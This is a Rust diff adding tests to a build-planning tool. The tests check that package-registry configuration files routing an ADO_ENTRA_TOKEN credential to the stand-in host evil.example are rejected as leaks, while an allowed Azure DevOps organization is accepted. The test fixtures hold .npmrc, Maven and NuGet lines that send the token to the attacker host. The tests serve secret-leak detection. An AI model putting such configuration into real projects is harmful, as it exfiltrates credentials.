@@ -54,6 +54,10 @@ impl Default for Case<'_> {
 
 impl Case<'_> {
     fn outcome(&self) -> Outcome {
+        self.result().unwrap()
+    }
+
+    fn result(&self) -> Result<Outcome, PlanError> {
         let host = Host {
             environment: self
                 .environment
@@ -84,7 +88,7 @@ impl Case<'_> {
             let reads = |file: &SourceFile| tool.reads(file.path.file_name().unwrap().to_str().unwrap());
             ToolFiles { files: self.files.iter().map(file).filter(reads).collect(), ..ToolFiles::default() }
         };
-        plan(&wanted, &files, &host, &Blind).unwrap()
+        plan(&wanted, &files, &host, &Blind)
     }
 }
 
@@ -152,6 +156,63 @@ fn keys(outcome: &Outcome) -> Vec<&str> {
         Change::Variable(_) | Change::PrivateFile(_) => None,
     });
     files.flat_map(|file| &file.entries).map(|entry| entry.key.as_str()).collect()
+}
+
+#[test]
+fn a_repository_that_would_send_the_token_elsewhere_stops_the_step() {
+    let evil = "https://evil.example/";
+    let nuget = |sections: &str| format!("<configuration>{sections}</configuration>");
+    let source = |key: &str, url: &str| format!("<packageSources><add key='{key}' value='{url}'/></packageSources>");
+    let secret = "<packageSourceCredentials><z><add key='ClearTextPassword' value='%ADO_ENTRA_TOKEN%'/></z></packageSourceCredentials>";
+    let server = format!(
+        "<settings><servers><server><id>z</id><configuration><httpHeaders><property><value>${{env.ADO_ENTRA_TOKEN}}</value></property>\
+         </httpHeaders></configuration></server></servers><mirrors><mirror><id>z</id><url>{evil}</url></mirror></mirrors></settings>"
+    );
+    for (path, text, says) in [
+        (".npmrc", "\n//evil.example/npm/:_authToken=${ADO_ENTRA_TOKEN}".to_owned(), ".npmrc line 2"),
+        (".npmrc", "//evil.example/:_password=${ADO_ENTRA_AUTH_NPM_CONTOSO}".to_owned(), "ADO_ENTRA_AUTH_NPM_CONTOSO"),
+        (".npmrc", "_auth=${ado_entra_token}".to_owned(), ".npmrc line 1"),
+        (".npmrc", "registry=https://evil.example/${ADO_ENTRA_TOKEN}/".to_owned(), "evil.example"),
+        ("pom.xml", pom("z", "https://evil.example/${env.ADO_ENTRA_TOKEN}/"), "evil.example"),
+        ("vendor/pom.xml", pom("z", "https://${env.ADO_ENTRA_TOKEN}.evil.example/"), "vendor/pom.xml"),
+        ("ci-settings.xml", server, "evil.example"),
+        ("nuget.config", nuget(&source("z", "https://evil.example/%ADO_ENTRA_TOKEN%/")), "evil.example"),
+        ("nuget.config", nuget(&format!("{}{secret}", source("Z", evil))), "nuget.config"),
+        (
+            "a.csproj",
+            "<Project><RestoreSources>https://evil.example/$(ADO_ENTRA_TOKEN)/</RestoreSources></Project>".to_owned(),
+            "a.csproj",
+        ),
+    ] {
+        let token = "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9";
+        for environment in [&[][..], &[("ADO_ENTRA_TOKEN", token), ("ADO_ENTRA_AUTH_NPM_CONTOSO", token)]] {
+            let files = [(path, text.as_str())];
+            let error = Case { files: &files, environment, ..Case::default() }.result().unwrap_err();
+            let words = format!("{error} {}", crate::diagnosis::Explain::remedy(&error));
+            assert!(
+                matches!(error, PlanError::Leak { .. }) && words.contains(says) && !words.contains(token),
+                "{words}"
+            );
+        }
+    }
+}
+
+#[test]
+fn a_repository_may_send_the_token_to_a_permitted_organization() {
+    let maven = "https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1";
+    let nuget = "https://pkgs.dev.azure.com/contoso/_packaging/f/nuget/v3/index.json";
+    let npmrc =
+        format!("{NPMRC}//pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/:_authToken=${{ADO_ENTRA_TOKEN}}\n");
+    let settings = format!(
+        "<settings><servers><server><id>f</id><password>${{env.ADO_ENTRA_TOKEN}}</password></server></servers>\
+         <mirrors><mirror><id>f</id><url>{maven}</url></mirror></mirrors></settings>"
+    );
+    let config = format!(
+        "<configuration><packageSources><add key='f' value='{nuget}'/></packageSources><packageSourceCredentials><f>\
+         <add key='ClearTextPassword' value='%ADO_ENTRA_TOKEN%'/></f></packageSourceCredentials></configuration>"
+    );
+    let files = [(".npmrc", npmrc.as_str()), ("ci-settings.xml", &settings), ("nuget.config", &config)];
+    assert_eq!(tools(&Case { files: &files, ..Case::default() }.outcome()), ["npm", "maven", "nuget", "git"]);
 }
 
 #[test]
